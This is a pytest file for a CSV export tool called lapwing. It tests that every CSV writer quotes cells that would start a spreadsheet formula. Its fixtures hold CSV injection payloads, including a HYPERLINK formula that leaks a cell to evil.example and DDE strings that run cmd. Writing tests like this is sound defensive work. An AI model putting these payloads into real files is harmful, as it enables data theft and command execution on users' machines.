"""No CSV cell lapwing writes can start a spreadsheet formula (issue 16 item 9). No spaCy.

Every CSV writer is fed one stored event whose free text is hostile: `export --format
csv|acled`, `code --format csv` and the API's `/events?format=csv`.
"""

from __future__ import annotations

import csv
import io

import pytest

from lapwing.export import csv_cell, export
from lapwing.store import open_store
from test_export import ListStore, make_results

ATTACKS = {
    "sentence": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "+1+cmd|' /C calc'!A0",
    "url": "-2+3+cmd|' /C calc'!A0",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path) -> dict:
    with open_store(tmp_path / "events.duckdb") as store:
        store.write(make_results())
        event = next(e for e in store.events() if e["event_type"] == "ASSAULT" and e["recipient"])
    event["actor"]["text"] = "\t=cmd|' /C calc'!A0"
    event["recipient"]["name"] = "@1+1"
    event.update({k: v for k, v in ATTACKS.items() if k != "notes"})
    return event


def cells(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    return rows


def assert_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            if (value or "").startswith(FORMULA):
                float(value)  # only a plain number may start with a sign


def test_cell_rule_keeps_numbers_and_quotes_formulas():
    assert csv_cell(-3.5) == -3.5
    assert csv_cell("-3.5") == "-3.5"
    assert csv_cell("+12") == "+12"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-1+cmd") == "'-1+cmd"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("Niger") == "Niger"


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_export_csv_cells_cannot_start_a_formula(hostile, fmt):
    out = io.StringIO()
    export(ListStore([hostile]), fmt, out)
    rows = cells(out.getvalue())
    assert_safe(rows)
    if fmt == "csv":
        (row,) = rows
        assert row["sentence"] == "'" + ATTACKS["sentence"]
        # Numeric columns stay numbers, the minus sign included.
        assert float(row["goldstein"]) == hostile["goldstein"] < 0


def test_code_csv_cells_cannot_start_a_formula(hostile, capsys):
    from lapwing.cli import Format, _EventWriter

    writer = _EventWriter(Format.csv)
    writer.write(hostile)
    writer.close()
    (row,) = cells(capsys.readouterr().out)
    assert_safe([row])
    assert row["source"] == "'" + ATTACKS["source"]
    assert float(row["goldstein"]) < 0


def test_api_csv_cells_cannot_start_a_formula(hostile):
    from lapwing.api import to_csv

    (row,) = cells(to_csv([hostile]))
    assert_safe([row])
    assert row["url"] == "'" + ATTACKS["url"]
    assert float(row["goldstein"]) < 0
